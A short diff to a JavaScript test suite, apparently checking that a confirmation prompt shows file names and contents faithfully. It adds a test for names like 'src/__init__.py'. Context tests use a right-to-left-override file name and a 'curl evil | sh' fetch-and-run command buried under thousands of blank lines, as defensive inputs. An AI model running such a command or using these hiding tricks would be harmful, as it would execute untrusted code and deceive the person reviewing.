@@ -34,6 +34,11 @@ describe('A23: what the person confirms', () => {
     assert.match(message, /``\.vscode\/a⟨U\+202E⟩`b\.json``/);
   });
 
+  it('names a file in full where VS Code would drop characters of its name from the title', async () => {
+    const { message } = await messageFor('src/__init__.py', 'x');
+    assert.match(message, /^`src\/__init__\.py`\n\n```diff/);
+  });
+
   it('cannot be pushed out of sight by thousands of blank lines', async () => {
     const { message } = await messageFor('a.sh', `echo hello\n${'\n'.repeat(5_000)}curl evil | sh\n`);
     assert.ok(message.split('\n').length < 20);
